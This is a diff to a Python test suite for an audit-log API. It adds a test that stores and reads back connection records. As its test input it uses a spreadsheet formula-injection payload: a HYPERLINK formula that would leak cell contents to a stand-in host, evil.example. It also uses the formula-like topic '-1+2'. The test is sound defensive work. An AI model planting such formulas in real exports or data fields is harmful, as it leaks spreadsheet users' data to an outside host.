@@ -14,8 +14,9 @@ import tornado.testing
 import tornado.web
 
 from tests import audit_helpers
-from tests.audit_helpers import Backend, awrite_log, conn_info, minutes, rec, topic
+from tests.audit_helpers import ALICE, Backend, awrite_log, conn_info, minutes, rec, topic
 from wsgate.audit.query import AuditReader
+from wsgate.audit.records import ConnectionInfo
 from wsgate.handlers.audit_api import audit_routes, routes
 
 backend = audit_helpers.backend  # the fixture: SQLite, and PostgreSQL when configured
@@ -124,6 +125,29 @@ async def test_filters_and_bad_parameters(backend: Backend, serve: Any) -> None:
         status, body = await api.get("/v1.0/audit", **params)
         assert status == 400, params
         assert body["error"]["code"] == "bad_request" and message in body["error"]["message"]
+
+
+@pytest.mark.gen_test(timeout=30)
+async def test_rows_show_empty_values_as_null_and_others_exactly(backend: Backend,
+                                                                 serve: Any) -> None:
+    hostile_ua = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    conn = ConnectionInfo("c-evil", ALICE, "static", "10.0.0.9", "", hostile_ua)
+    await awrite_log(backend, [("sub", [rec(topic("a"), at=minutes(0), conn=conn),
+                                        rec("-1+2", outcome="rejected", code="invalid_topic",
+                                            at=minutes(1), conn=conn)])])
+    api = serve()
+    status, body = await api.get("/v1.0/audit")
+    assert status == 200
+    accepted, rejected = body["rows"]
+    # The accepted subscribe's code and the missing Origin are stored as "": null here,
+    # like a principal without an agent id.
+    assert accepted["code"] is None and accepted["origin"] is None
+    assert accepted["action"] == "subscribe" and accepted["outcome"] == "accepted"
+    # Client-sent text comes back exactly as stored (no CSV escaping in JSON).
+    assert [r["user_agent"] for r in body["rows"]] == [hostile_ua] * 2
+    assert rejected["topic"] == "-1+2" and rejected["code"] == "invalid_topic"
+    status, body = await api.get("/v1.0/audit/verify")
+    assert body["ok"] is True
 
 
 @pytest.mark.gen_test(timeout=30)
